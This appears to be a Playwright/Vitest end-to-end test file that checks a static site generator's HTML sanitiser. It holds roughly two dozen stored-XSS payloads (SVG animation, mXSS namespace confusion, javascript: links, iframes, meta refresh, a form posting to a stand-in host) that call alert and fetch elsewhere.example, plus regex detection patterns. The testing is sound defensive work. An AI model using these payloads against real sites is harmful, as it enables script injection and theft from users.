/**
 * Stored XSS, tried as an attacker would: pages whose raw HTML carries every trick from the
 * report (comment and raw-text parsing, SVG animation, `<base>`, meta refresh, forms,
 * frames, namespace confusion), built by the real build and loaded in Chromium. None may
 * raise a dialog, set a flag, request another origin or navigate anywhere, even when its
 * links, buttons and SVG are clicked and hovered; and the Content-Security-Policy never has
 * to step in (a violation would mean the sanitiser let something through).
 */
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { readdirSync, readFileSync } from "node:fs";
import path from "node:path";
import type { Page } from "playwright-core";
import { buildSite, type BuiltSite } from "../build/buildSite.ts";
import { e2eSite, useBrowser } from "./browser.ts";
import { serveStatic, type StaticServer } from "./server.ts";

const site = e2eSite();
const ELSEWHERE = "https://elsewhere.example";
/** What a payload does if it ever runs: a dialog, a flag, a request elsewhere. */
const RUN = (n: number) => `alert(${n});window.__pwned=${n};fetch('${ELSEWHERE}/${n}')`;

/** name → raw HTML (or Markdown) placed in a page's body. */
const PAYLOADS: Record<string, string> = {
  "comment-abrupt": `<!--><img src=x onerror="${RUN(1)}">-->`,
  "comment-bang": `<!-- --!><img src=x onerror="${RUN(2)}">-->`,
  "comment-dash": `<!---><img src=x onerror="${RUN(3)}">-->`,
  textarea: `<textarea><img src=x onerror="${RUN(4)}"></textarea>`,
  noscript: `<noscript><p title="</noscript><img src=x onerror=&quot;${RUN(5)}&quot;>"></noscript>`,
  title: `<title><img src=x onerror="${RUN(6)}"></title>`,
  xmp: `<xmp><img src=x onerror="${RUN(7)}"></xmp>`,
  noembed: `<noembed><img src=x onerror="${RUN(8)}"></noembed>`,
  "svg-animate": `<svg width="200" height="60"><a><animate attributeName="href" values="javascript:${RUN(9)}"/><text x="10" y="30">click me</text></a></svg>`,
  "svg-set": `<svg width="200" height="60"><a><set attributeName="href" to="javascript:${RUN(10)}"/><text x="10" y="30">click me</text></a><rect width="50" height="50"><set attributeName="onmouseover" to="${RUN(11)}"/></rect></svg>`,
  "svg-onload": `<svg onload="${RUN(12)}"><circle r="5"/></svg>`,
  base: `<base href="${ELSEWHERE}/">\n\n\`\`\`mermaid\nflowchart LR\n  A --> B\n\`\`\``,
  "meta-refresh": `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/">`,
  "javascript-links": `<a href="javascript:${RUN(13)}">one</a> <a href="jav&#x09;ascript:${RUN(14)}">two</a> <a href=" JaVaScRiPt:${RUN(15)}">three</a>\n\n[four](javascript:${RUN(16)})`,
  form: `<form action="${ELSEWHERE}/steal" method="post"><input name="x" value="y"><button>Send</button></form>`,
  frames: `<iframe src="javascript:${RUN(17)}"></iframe><iframe srcdoc="<script>${RUN(18)}</script>"></iframe><object data="javascript:${RUN(19)}"></object><embed src="javascript:${RUN(20)}">`,
  "namespace-confusion": `<math><mtext><table><mglyph><style><img src=x onerror="${RUN(21)}"></style></mglyph></table></mtext></math>`,
  "event-handlers": `<details open ontoggle="${RUN(22)}"><summary>s</summary>x</details><p onmouseover="${RUN(23)}">hover</p><video><source onerror="${RUN(24)}"></video>`,
  script: `<script>${RUN(25)}</script><script src="${ELSEWHERE}/x.js"></script>`,
  "style-and-link": `<style>@import url(${ELSEWHERE}/x.css);</style><link rel="stylesheet" href="${ELSEWHERE}/y.css"><p style="background:url(${ELSEWHERE}/z.png)">styled</p>`,
  "data-url": `<a href="data:text/html,<script>${RUN(26)}</script>">data</a><img src="data:image/svg+xml,<svg onload='${RUN(27)}'/>">`,
};

const pageFile = (name: string, body: string) => `---\ntitle: XSS ${name}\n---\nIntro.\n\n${body}\n\nAfter the payload.\n`;

describe.skipIf(!site)("hostile raw HTML, built and loaded in Chromium", () => {
  const fixture = useBrowser(site);
  let built: BuiltSite;
  let server: StaticServer;

  beforeAll(async () => {
    built = await buildSite(Object.fromEntries(Object.entries(PAYLOADS).map(([name, body]) => [`xss/${name}.md`, pageFile(name, body)])));
    server = await serveStatic(built.output);
  }, 180_000);
  afterAll(async () => {
    await server?.close();
  });

  /** Loads a page with every listener set, pokes at it, and says what happened. */
  async function visit(url: string): Promise<{ dialogs: string[]; elsewhere: string[]; navigations: string[]; violations: string[]; pwned: unknown }> {
    const page: Page = await fixture.newPage();
    const dialogs: string[] = [];
    const elsewhere: string[] = [];
    const navigations: string[] = [];
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await page.context().route("**/*", (route) => {
      const requested = route.request().url();
      if (new URL(requested).origin === server.origin) return route.continue();
      elsewhere.push(requested);
      return route.abort();
    });
    page.on("framenavigated", (frame) => {
      if (frame === page.mainFrame() && frame.url() !== url) navigations.push(frame.url());
    });
    await page.addInitScript(() => {
      const violations: string[] = [];
      (window as unknown as { __violations: string[] }).__violations = violations;
      document.addEventListener("securitypolicyviolation", (event) => violations.push(`${event.effectiveDirective} ${event.blockedURI}`));
    });
    await page.goto(url, { waitUntil: "load" });
    // Activate whatever could run on a click or a hover: links that are not plain web links, buttons, SVG.
    await page.evaluate(() => {
      const targets = document.querySelectorAll("main a:not([href^='/']):not([href^='#']):not([href^='http']), main button, main svg *, main [onmouseover], main summary");
      for (const target of targets) {
        for (const type of ["mouseover", "click"]) target.dispatchEvent(new MouseEvent(type, { bubbles: true, cancelable: true }));
      }
    });
    // Time for a meta refresh, a module script or a fetch to happen, had any been left.
    await page.waitForTimeout(500);
    const state = await page.evaluate(() => ({
      pwned: (window as unknown as { __pwned?: unknown }).__pwned,
      violations: (window as unknown as { __violations: string[] }).__violations,
    }));
    await page.close();
    return { dialogs, elsewhere, navigations, ...state };
  }

  test.each(Object.keys(PAYLOADS))("%s runs nothing, loads nothing from elsewhere and goes nowhere", async (name) => {
    const url = `${server.origin}/xss/${name}/`;
    const seen = await visit(url);
    expect(seen).toEqual({ dialogs: [], elsewhere: [], navigations: [], violations: [], pwned: undefined });
  });

  test("the pages are still there, text before and after each payload published", () => {
    for (const name of Object.keys(PAYLOADS)) {
      const text = built.html(`/xss/${name}/`).querySelector("main")?.text ?? "";
      expect(text, name).toContain("Intro.");
      expect(text, name).toContain("After the payload.");
    }
  });

  test("nothing in the output carries a payload", () => {
    const files = readdirSync(built.output, { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile() && /\.(html|xml|json|txt)$/.test(entry.name))
      .map((entry) => path.join(entry.parentPath, entry.name));
    expect(files.length).toBeGreaterThan(Object.keys(PAYLOADS).length);
    // In markup, that is: a Markdown link Markdown refuses (`[x](javascript:…)`) is published as
    // its text, and the web address in that text as an ordinary link (which loads nothing).
    for (const file of files) {
      const text = readFileSync(file, "utf8");
      for (const needle of [/onerror=/i, /onload=/i, /ontoggle=/i, /onmouseover=/i, /<script>alert/i, /=\s*["']?\s*javascript:/i, /http-equiv="refresh"/i, /<base /i, /<iframe/i, /(?:src|action|data|content|srcdoc|xlink:href)\s*=\s*["']?[^"'>]*elsewhere\.example/i]) {
        expect(needle.test(text), `${path.relative(built.output, file)} has ${needle}`).toBe(false);
      }
    }
  });
});
